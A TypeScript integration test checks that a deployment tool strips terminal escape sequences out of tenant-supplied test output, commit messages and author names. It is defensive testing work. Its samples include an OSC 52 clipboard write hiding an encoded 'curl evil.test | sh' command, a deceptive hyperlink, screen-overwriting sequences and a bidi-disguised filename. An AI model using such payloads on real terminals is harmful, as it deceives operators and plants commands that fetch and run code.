/**
 * Attack: a pushed branch whose addon test prints terminal escape sequences (OSC 52 clipboard
 * write, OSC 8 hyperlink, window title, cursor moves that overwrite earlier lines, CR, bidi
 * override) and fails with them in its assertion, in a commit whose message and author carry them
 * too. Deployed on a real host (PostgreSQL, dockerd, nginx, the Odoo stand-in running the test):
 * the deployment fails as it should, and nothing an operator reads about it — the job and the
 * deployment from the API, `jobs show`, `jobs logs`, `deploy show`, `deploy list` and `env get`
 * through the CLI — carries an escape, a C1 control or a bidi character, while the test's words
 * are still there to read.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import type { DeploymentView } from "../../src/deploy/schema";
import type { JobView } from "../../src/jobs/view";
import { runCliOn } from "../support/cli";
import { type DeployEnv, shopManifest, startDeployEnv } from "../support/deploy-env";
import { UNSAFE } from "../support/unsafe-text";

const ESC = "\\x1b";
const BEL = "\\x07";
/** Python source of the hostile lines: the escapes are written by the tenant's code, not by this file. */
const HOSTILE_PRINTS = [
  `print("${ESC}]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==${BEL}clipboard-line")`,
  `print("${ESC}]0;pwned${BEL}${ESC}[2J${ESC}[1;1Hall tests passed\\rwindow-line")`,
  `print("see ${ESC}]8;;https://evil.test/${ESC}\\\\the docs${ESC}]8;;${ESC}\\\\ link-line \\u202etxt.exe")`,
  `print("\\x9b31mC1-line${ESC}[1A${ESC}[2K")`,
  `raise AssertionError("${ESC}[31mpartners\\u2066 missing\\u2069${ESC}[0m")`,
].join("\n");

let t: DeployEnv;
let job: JobView;
let deployment: DeploymentView;

const cli = (argv: string[]) => runCliOn(t.host.api, argv);

/** Every string inside a JSON value (a raw ESC in a JSON body is escaped as text, so the parsed values are what counts). */
function strings(v: unknown): string[] {
  if (typeof v === "string") return [v];
  if (Array.isArray(v)) return v.flatMap(strings);
  if (v && typeof v === "object") return Object.values(v).flatMap(strings);
  return [];
}

const unsafe = (texts: string[]): string[] => texts.filter((s) => UNSAFE.test(s));

beforeAll(async () => {
  t = await startDeployEnv({
    env: { name: "hostile", tier: "dev" },
    files: { "shop_extra/__manifest__.py": shopManifest("1.0") },
    configOverrides: { deploy: { drainSec: 0, healthTimeoutSec: 60, install: ["shop_extra"], rehearse: false } },
  });
  await t.repo.commit(
    { "shop_extra/tests/test_hostile.py": `${HOSTILE_PRINTS}\n` },
    "fix\u001b]52;c;ZXZpbA==\u0007 partners\u001b[2A\u202e",
  );
  await t.repo.git(
    "commit",
    "--amend",
    "--quiet",
    "--no-edit",
    "--author",
    "Mallory \u001b]8;;https://evil.test/\u0007Admin\u001b]8;;\u0007 <m@evil.test>",
  );
  const out = await t.deploy();
  job = out.job;
  deployment = out.d;
}, 600_000);

afterAll(async () => {
  await t?.stop();
}, 120_000);

describe("tenant text from a deploy never reaches an operator's terminal raw", () => {
  test("the deployment failed on the tenant's test, with its words kept", () => {
    expect(job.status).toBe("failed");
    expect(deployment.status).toBe("failed");
    expect(deployment.error).toContain("addon tests failed");
    expect(deployment.error).toContain("partners missing");
    const log = t.jobLog(job.id);
    // The tenant's lines are in the log, readable, with the sequences gone (not only their ESC).
    expect(log).toContain("clipboard-line");
    expect(log).toContain("all tests passed\nwindow-line");
    expect(log).toContain("see the docs link-line txt.exe");
    expect(log).toContain("C1-line");
    expect(log).not.toContain("]52;");
    expect(log).not.toContain("[2J");
  });

  test("API: the job, its log and the deployment carry no escape, C1 or bidi character", async () => {
    const jobRes = await t.api("GET", `/jobs/${job.id}`);
    expect(jobRes.status).toBe(200);
    const jobJson = (await jobRes.json()) as JobView;
    const logJson = await (await t.api("GET", `/jobs/${job.id}/log`)).json();
    const depJson = await (await t.api("GET", `/deployments/${deployment.id}`)).json();
    const listJson = await (await t.api("GET", `/environments/${t.slug}/deployments`)).json();
    expect(unsafe([...strings(jobJson), ...strings(logJson), ...strings(depJson), ...strings(listJson)])).toEqual([]);
    expect(jobJson.error).toContain("partners missing");
    expect(strings(logJson).join("\n")).toContain("clipboard-line");
  });

  test("CLI: jobs show, jobs logs, deploy show, deploy list and env get print none either", async () => {
    const runs = await Promise.all([
      cli(["jobs", "show", job.id]),
      cli(["jobs", "logs", job.id]),
      cli(["deploy", "show", deployment.id]),
      cli(["deploy", "list", t.slug]),
      cli(["env", "get", t.slug]),
      cli(["jobs", "show", job.id, "--json"]),
    ]);
    for (const r of runs) expect(unsafe([r.stdout, r.stderr])).toEqual([]);
    // --json escapes C0 characters as text: the value must not hold them either.
    expect(runs[5]!.stdout).not.toMatch(/\\u00(1b|9b|9d|07)/i);
    const [show, logs, deployShow] = runs;
    expect(show!.stdout + show!.stderr).toContain("partners missing");
    expect(logs!.stdout).toContain("see the docs link-line txt.exe");
    expect(deployShow!.stdout).toContain("partners missing");
  });
});
